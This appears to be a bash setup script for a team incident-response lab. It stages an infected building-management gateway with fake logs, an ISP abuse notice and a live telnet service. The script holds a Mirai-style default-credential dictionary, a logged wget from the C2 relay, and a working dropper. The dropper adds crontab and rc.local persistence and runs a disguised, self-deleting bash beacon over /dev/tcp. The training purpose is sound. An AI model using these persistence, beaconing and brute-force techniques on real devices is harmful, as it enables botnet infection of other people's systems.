#!/bin/bash
# iot-botnet-team — gw01: the annex's building-management gateway (the flagship iot-botnet-telnet's
# bms-gw01, now reached from inside). Runs as sandbox root before the team attaches (labs/README.md,
# "Team labs"); the hosts/gw01/files overlay is in place under /srv/gateway and /home/learner.
#
# Builds gw01's side of the incident:
#   - three days of gateway logs: internet telnet noise on wan0, the facilities PC (ws01) using the
#     web UI, then a burst of failed telnet logins from ws01's address on lan0 and a success with a
#     factory-default account (LOGIN_USER/LOGIN_PASS), and the download from the relay;
#   - flow records: the bot's report to the relay (C2_ADDR:C2_PORT) every minute and its telnet
#     scanning of the internet (hence the ISP's notice);
#   - a dropper (GW_DROPPER) hooked into the gateway's crontab and rc.local;
#   - the running bot: a renamed copy of bash (BOT_NAME) run from /tmp, reading its program from a
#     file, both deleted once it runs; it really connects to the relay on the team network;
#   - a real telnet service on 23 and 2323 (sbin/gw-telnetd) that logs every login attempt: ws01's
#     scanner keeps logging in while the default password stays.
# Per-session variables go to fd 3 as NAME=value lines; nothing here may write them elsewhere.
set -euo pipefail
{ : >&3; } 2>/dev/null || { echo "setup.sh: fd 3 is not open; run by hand as: bash setup.sh 3>vars.txt" >&2; exit 2; }

# ---------------------------------------------------------------- team-wide values
# Every host of this lab draws these first, in this order, from the same LAB_SEED: all three
# setups agree on them without talking to each other. Keep the block identical in every setup.sh.
RANDOM=${LAB_SEED:-1}
C2_PORT=$(( 20000 + RANDOM % 40000 ))  # the relay's port
LOGINS=(admin support user)
LOGIN_USER=${LOGINS[RANDOM % 3]}        # the factory-default account ws01's scanner got into gw01 with
RUN_AGO=$(( 6600 + RANDOM % 1200 ))     # the fake maintenance tool ran on ws01 110–130 minutes ago
BRUTE_AFTER=$(( 240 + RANDOM % 300 ))   # and its scanner started on gw01's telnet 4–9 minutes later
: "$LOGIN_USER" "$RUN_AGO" "$BRUTE_AFTER"
# ----------------------------------------------------------------

addr_of() { local kv; for kv in ${LAB_TEAM_HOSTS:-}; do [ "${kv%%=*}" = "$1" ] && { R=${kv#*=}; return 0; }; done; return 1; }
addr_of ws01 || { echo "setup: no ws01 in LAB_TEAM_HOSTS (run this lab with provisionTeam)" >&2; exit 2; }; WS=$R
addr_of c2 || { echo "setup: no c2 in LAB_TEAM_HOSTS" >&2; exit 2; }; C2_ADDR=$R
LAN=${LAB_HOST_ADDR:?}
LOGIN_PASS=$LOGIN_USER # the factory defaults in etc/users are user = password

GW=/srv/gateway
chmod 1777 /tmp # the dropper, like any local user, stages in /tmp
LUID=${LAB_LEARNER_UID:-1000}
LGID=${LAB_LEARNER_GID:-1000}
LHOME=${LAB_LEARNER_HOME:-/home/learner}
export TZ=UTC
T0=$(date +%s)
JST=32400

var() { printf '%s=%s\n' "$1" "$2" >&3; }
# Gateway processes belong to the gateway account, which is the team's account: they administer the
# gateway without sudo. If this sandbox cannot switch uid, run them as ourselves.
if setpriv --reuid="$LUID" --regid="$LGID" --clear-groups true 2>/dev/null; then
  as_learner() { setpriv --reuid="$LUID" --regid="$LGID" --clear-groups env -i PATH=/usr/bin:/bin HOME="$LHOME" LANG=C.UTF-8 "$@"; }
else
  echo "setup: cannot switch to uid $LUID; gateway processes run as uid $(id -u)" >&2
  as_learner() { env -i PATH=/usr/bin:/bin HOME="$LHOME" LANG=C.UTF-8 "$@"; }
fi
spawn() { ( exec </dev/null >/dev/null 2>&1 3>&-; "$@" ) & }

ts() { printf -v R '%(%Y-%m-%dT%H:%M:%S)T+09:00' $(( $1 + JST )); } # → R, in JST like the gateway
pick() { local a=("$@"); R=${a[RANDOM % ${#a[@]}]}; }
# A documentation-range address (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24), never the
# gateway's own /29 (203.0.113.8–15) nor any address given as an argument.
doc_ip() {
  local prefixes=(192.0.2 198.51.100 203.0.113) p h ip
  while :; do
    p=${prefixes[RANDOM % 3]} h=$(( RANDOM % 250 + 3 )) ip=$p.$h
    [ "$p" = 203.0.113 ] && [ "$h" -ge 8 ] && [ "$h" -le 15 ] && continue
    case " $* " in *" $ip "*) continue ;; esac
    R=$ip; return
  done
}
randname() { # Mirai-style random process name: a letter, then 7–11 letters/digits
  local c=abcdefghijklmnopqrstuvwxyz0123456789 s i n=$(( 7 + RANDOM % 5 ))
  s=${c:RANDOM % 26:1}
  for (( i = 0; i < n; i++ )); do s+=${c:RANDOM % 36:1}; done
  R=$s
}
EP='32768 + RANDOM % 28000' # ephemeral source port: $((EP))
TELNET=(23 23 23 2323)       # scanners favour 23 over 2323: ${TELNET[RANDOM % 4]}

WAN=203.0.113.10
# gw01's own draws: a seed of its own, so they differ from ws01's (which uses the same helpers).
RANDOM=$(( ${LAB_SEED:-1} ^ 0x6701 ))
randname; BOT_NAME=$R
randname; GW_DROPPER=$GW/var/.cache/.${R:0:6}
role=$(awk -F: -v u="$LOGIN_USER" '$1 == u { print $3 }' "$GW/etc/users")

cat >"$GW/etc/gateway.conf" <<EOF
# BMS-GW100 building-management gateway — device settings
# Kita-Minato City (fictional) — Civic Center Annex, facilities network
hostname=gw01
model=BMS-GW100
vendor=Kitaura Denki (fictional)
firmware=2.3.1 (2019-04-12)
installed=2019-06-20
lan0=$LAN/24      # annex office LAN (facilities PCs use the web UI from here)
lan1=192.168.50.1/24     # BACnet/IP to HVAC, lighting and power-meter controllers
wan0=$WAN/29     # ISP line for the vendor's remote maintenance
timezone=JST (+09:00)    # all logs under /srv/gateway/log use this offset
EOF

# ---------------------------------------------------------------- timeline (epoch seconds)
T_RUN=$(( T0 - RUN_AGO ))                  # ws01 ran the fake tool (see ws01)
B=$(( T_RUN + BRUTE_AFTER ))               # ws01's scanner starts on gw01's telnet
START=$(( T0 - 3 * 86400 ))                # logs begin three days ago
EV=$(mktemp)
trap 'rm -f "$EV"' EXIT
msg() { printf '%d\tM\t%s\n' "$1" "$2" >>"$EV"; }   # /srv/gateway/log/messages
flow() { printf '%d\tF\t%s\n' "$1" "$2" >>"$EV"; }  # /srv/gateway/log/flow.log
pidc=700
nextpid() { pidc=$(( pidc + 1 + RANDOM % 40 )); }

# Normal life: BACnet polling on lan1, NTP, the facilities PC (ws01) using the web UI, log rotation.
for (( t = START; t < T0; t += 300 )); do
  flow $(( t + RANDOM % 20 )) "dir=out proto=udp src=192.168.50.1:47808 dst=192.168.50.$(( 21 + RANDOM % 14 )):47808 state=- bytes_out=$(( 400 + RANDOM % 300 )) bytes_in=$(( 900 + RANDOM % 800 )) dur=1s"
done
for (( t = START + 1800; t < T0; t += 3600 )); do
  flow "$t" "dir=out proto=udp src=$WAN:123 dst=192.0.2.123:123 state=- bytes_out=76 bytes_in=76 dur=0s"
  (( RANDOM % 4 == 0 )) && msg "$t" "gw01 bacnetd[612]: BACnet/IP: 14 of 14 controllers online"
done
for (( d = 0; d < 3; d++ )); do
  day=$(( START - (START + JST) % 86400 + d * 86400 ))
  for h in 9 13 16; do
    t=$(( day + h * 3600 + RANDOM % 1800 ))
    (( t < START || t > T_RUN )) && continue
    msg "$t" "gw01 httpd[640]: session opened for 'admin' from $WS (https, web UI)"
    flow "$t" "dir=in proto=tcp src=$WS:$((EP)) dst=$LAN:443 state=ESTABLISHED bytes_out=$(( 20000 + RANDOM )) bytes_in=$(( 3000 + RANDOM % 2000 )) dur=$(( 60 + RANDOM % 600 ))s"
  done
done
for (( t = START; t < T0; t += 600 )); do (( RANDOM % 6 == 0 )) && msg "$t" "gw01 gw-cron[588]: run /srv/gateway/bin/gw-logrotate"; done

# Internet background noise: scanners trying a root password or two on the exposed telnet port.
noise_ips=()
for (( i = 0; i < 14; i++ )); do
  doc_ip "${noise_ips[@]}"; ip=$R
  noise_ips+=("$ip")
  t=$(( START + RANDOM * 7 % (T0 - START - 600) ))
  port=${TELNET[RANDOM % 4]}
  tries_n=$(( 1 + RANDOM % 3 ))
  for (( k = 0; k < tries_n; k++ )); do
    t=$(( t + 2 + RANDOM % 9 )); nextpid; p=$pidc
    msg "$t" "gw01 telnetd[$p]: connect from $ip:$((EP)) to port $port"
    msg $(( t + 1 )) "gw01 login[$p]: FAILED LOGIN for 'root' from $ip (bad password)"
    flow "$t" "dir=in proto=tcp src=$ip:$((EP)) dst=$WAN:$port state=CLOSED bytes_out=180 bytes_in=95 dur=2s"
  done
done

# The attack, from inside: ws01's scanner tries one pair per connection from a Mirai-like
# dictionary on lan0, then hits a factory default.
tries=(root:xc3511 root:vizxv root:888888 root:default root:123456 root:54321 root:12345 root:pass
  root:root root:xmhdipc root:juantech root:hi3518 root:jvbzd root:anko root:zlxx. root:7ujMko0vizxv
  root:7ujMko0admin root:system root:ikwb root:dreambox root:realtek root:00000000 guest:guest
  guest:12345 ubnt:ubnt tech:tech supervisor:supervisor service:service 888888:888888
  666666:666666 admin:password admin:1234 admin:12345 admin:smcadmin admin:1111 admin:54321)
t=$B
n=$(( 24 + RANDOM % 10 ))
for (( i = 0; i < n; i++ )); do
  pair=${tries[RANDOM % ${#tries[@]}]}; u=${pair%%:*}; nextpid; p=$pidc
  [ "$u" = "$LOGIN_USER" ] && u=root # an attempt on the account that works would have succeeded
  port=${TELNET[RANDOM % 4]}
  t=$(( t + 3 + RANDOM % 8 ))
  msg "$t" "gw01 telnetd[$p]: connect from $WS:$((EP)) to port $port"
  case $u in
    admin|support|user) msg $(( t + 1 )) "gw01 login[$p]: FAILED LOGIN for '$u' from $WS (bad password)" ;;
    *) msg $(( t + 1 )) "gw01 login[$p]: FAILED LOGIN for '$u' from $WS (unknown user)" ;;
  esac
  flow "$t" "dir=in proto=tcp src=$WS:$((EP)) dst=$LAN:$port state=CLOSED bytes_out=210 bytes_in=120 dur=2s"
done
t=$(( t + 5 + RANDOM % 6 )); nextpid; p=$pidc; LOGIN_AT=$t
msg "$t" "gw01 telnetd[$p]: connect from $WS:$((EP)) to port 23"
msg $(( t + 1 )) "gw01 login[$p]: LOGIN '$LOGIN_USER' (role $role) from $WS on pts/0"
flow "$t" "dir=in proto=tcp src=$WS:$((EP)) dst=$LAN:23 state=CLOSED bytes_out=$(( 3000 + RANDOM % 900 )) bytes_in=1460 dur=94s"
nextpid; sh=$pidc
c=$(( t + 3 ))
for cmd in enable system shell sh "/bin/busybox KNSHU" "cd $GW/var/.cache" \
  "wget http://$C2_ADDR:$C2_PORT/bins/upd.sh -O ${GW_DROPPER##*/}" "chmod 755 ${GW_DROPPER##*/}" "./${GW_DROPPER##*/}" "rm -f ${GW_DROPPER##*/}.log" exit; do
  c=$(( c + 2 + RANDOM % 5 ))
  msg "$c" "gw01 gwsh[$sh]: $LOGIN_USER: $cmd"
done
msg $(( c + 1 )) "gw01 login[$p]: session closed for '$LOGIN_USER' from $WS"
flow $(( c - 14 )) "dir=out proto=tcp src=$LAN:$((EP)) dst=$C2_ADDR:$C2_PORT state=CLOSED bytes_out=142 bytes_in=$(( 2600 + RANDOM % 400 )) dur=1s"

# The bot: a report to the relay every minute (lan0), and telnet scanning of the internet (wan0).
BOT_START=$(( c + 4 ))
for (( t = BOT_START; t < T0; t += 60 )); do
  flow "$t" "dir=out proto=tcp src=$LAN:$((EP)) dst=$C2_ADDR:$C2_PORT state=ESTABLISHED bytes_out=$(( 40 + RANDOM % 30 )) bytes_in=$(( 20 + RANDOM % 10 )) dur=60s"
  scans=$(( 4 + RANDOM % 4 ))
  for (( k = 0; k < scans; k++ )); do
    doc_ip "$WAN"
    flow $(( t + 1 + RANDOM % 58 )) "dir=out proto=tcp src=$WAN:$((EP)) dst=$R:${TELNET[RANDOM % 4]} state=SYN_SENT bytes_out=60 bytes_in=0 dur=0s"
  done
done
msg $(( T0 - 900 )) "gw01 bacnetd[612]: BACnet/IP: poll cycle overran (2.8 s > 1.0 s); CPU busy"

mkdir -p "$GW/log" "$GW/run" "$GW/var/cache" "$GW/var/.cache" "$GW/var/backup"
sort -n -k1,1 "$EV" | while IFS=$'\t' read -r t kind line; do
  if [ "$kind" = M ]; then ts "$t"; printf '%s %s\n' "$R" "$line"; fi
done >"$GW/log/messages"
sort -n -k1,1 "$EV" | while IFS=$'\t' read -r t kind line; do
  if [ "$kind" = F ]; then ts "$t"; printf '%s gw01 gw-flowlog: %s\n' "$R" "$line"; fi
done >"$GW/log/flow.log"

# ---------------------------------------------------------------- the ISP's notice (the detection)
mkdir -p "$LHOME/inbox"
ts $(( T0 - 600 )); NOTICE_AT=$R
ts "$BOT_START"; SCAN_SINCE=$R
cat >"$LHOME/inbox/isp-notice.txt" <<EOF
From: abuse@isp.example
To: it-security@city.kita-minato.example
Date: $NOTICE_AT
Subject: [NOTICE] Telnet scanning from your line 203.0.113.10 / 貴回線からの Telnet スキャン

(English below)
北湊市 情報政策課 ご担当者様

NICTER の観測および当社の監視により、貴市の契約回線に割り当てた IP アドレス 203.0.113.10 から、
$SCAN_SINCE 頃より TCP 23 番・2323 番ポート宛ての通信（IoT 機器を狙うスキャン）が
継続して発生していることを確認しました。マルウェアに感染した IoT 機器が存在する可能性があります。
機器を特定のうえ、対処結果をご連絡ください。

To the Information Policy Division, Kita-Minato City:

NICTER observations and our own monitoring show continuous connections to TCP ports 23 and 2323
(scanning aimed at IoT devices) from 203.0.113.10, an address on your contract line, since about
$SCAN_SINCE. An IoT device on your network may be infected with malware. Please identify
the device, respond, and tell us what you found.

-- ISP Abuse Desk (fictional)
EOF

# ---------------------------------------------------------------- the dropper and persistence
BOT_SCRIPT=$(cat <<EOF
C2=$C2_ADDR
P=$C2_PORT
cd / || exit 0
trap '' HUP PIPE
f=\$(mktemp -u /tmp/.XXXXXXXX)
mkfifo -m 600 "\$f" && exec 9<>"\$f" && rm -f "\$f"
while :; do
  # Report to the relay and hold the connection for a minute (its command channel); retried
  # every minute while the relay does not answer.
  { exec 5<>"/dev/tcp/\$C2/\$P"; } 2>/dev/null && printf 'BOT %s\n' "\$(cat /proc/sys/kernel/hostname 2>/dev/null)" >&5 2>/dev/null
  read -r -t 60 -u 9 _
  exec 5>&- 2>/dev/null
done
EOF
)

cat >"$GW_DROPPER" <<EOF
#!/bin/bash
N=$BOT_NAME
S=$GW_DROPPER
for p in /proc/[0-9]*; do [ "\$(cat "\$p/comm" 2>/dev/null)" = "\$N" ] && exit 0; done
grep -qF "\$S" $GW/etc/crontab 2>/dev/null || echo "* * * * * \$S >/dev/null 2>&1" >>$GW/etc/crontab
grep -qF "\$S" $GW/etc/rc.local 2>/dev/null || echo "\$S >/dev/null 2>&1 &" >>$GW/etc/rc.local
D=\$(mktemp -d /tmp/.XXXXXXXX) || exit 0
cp /usr/bin/bash "\$D/\$N" && chmod 700 "\$D/\$N"
cat >"\$D/.s" <<'__BOT__'
$BOT_SCRIPT
__BOT__
cd /
setsid bash -c 'exec -a "\$0" "\$1" <"\$2" >/dev/null 2>&1' "\$N" "\$D/\$N" "\$D/.s" </dev/null >/dev/null 2>&1 &
for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do
  for p in /proc/[0-9]*; do [ "\$(cat "\$p/comm" 2>/dev/null)" = "\$N" ] && break 2; done
  sleep 0.1
done
sleep 0.2
rm -rf "\$D"
EOF
chmod 755 "$GW_DROPPER"
touch -d "@$LOGIN_AT" "$GW_DROPPER"

# ---------------------------------------------------------------- hand the gateway to its account, start it
chmod 600 "$GW/etc/users"
chown -R "$LUID:$LGID" "$GW" "$LHOME" 2>/dev/null || echo "setup: chown to $LUID:$LGID not possible here" >&2
for s in cron bacnetd httpd telnetd; do as_learner "$GW/bin/gwctl" start "$s" </dev/null >&2 3>&-; done
# The dropper installs its own crontab and rc.local lines, as it did when the attacker ran it.
spawn as_learner setsid "$GW_DROPPER"
bot_running() { local p; for p in /proc/[0-9]*; do [ "$(cat "$p/comm" 2>/dev/null)" = "$BOT_NAME" ] && return 0; done; return 1; }
for _ in $(seq 1 100); do bot_running && break; sleep 0.1; done
for _ in $(seq 1 60); do compgen -G '/tmp/.????????/.s' >/dev/null || break; sleep 0.1; done
grep -qF "$GW_DROPPER" "$GW/etc/crontab" || { echo "setup: dropper did not install persistence" >&2; exit 1; }
bot_running || { echo "setup: bot did not start" >&2; exit 1; }
grep -q ' 00000000:0000 0A' <(grep -E ':(0017|0913) ' /proc/net/tcp) || { echo "setup: telnet service is not listening" >&2; exit 1; }

var BOT_NAME "$BOT_NAME"
var GW_DROPPER "$GW_DROPPER"
var LOGIN_USER "$LOGIN_USER"
var LOGIN_PASS "$LOGIN_PASS"
ts "$LOGIN_AT"; echo "setup: gw01 ready (login from ws01 at $R)" >&2
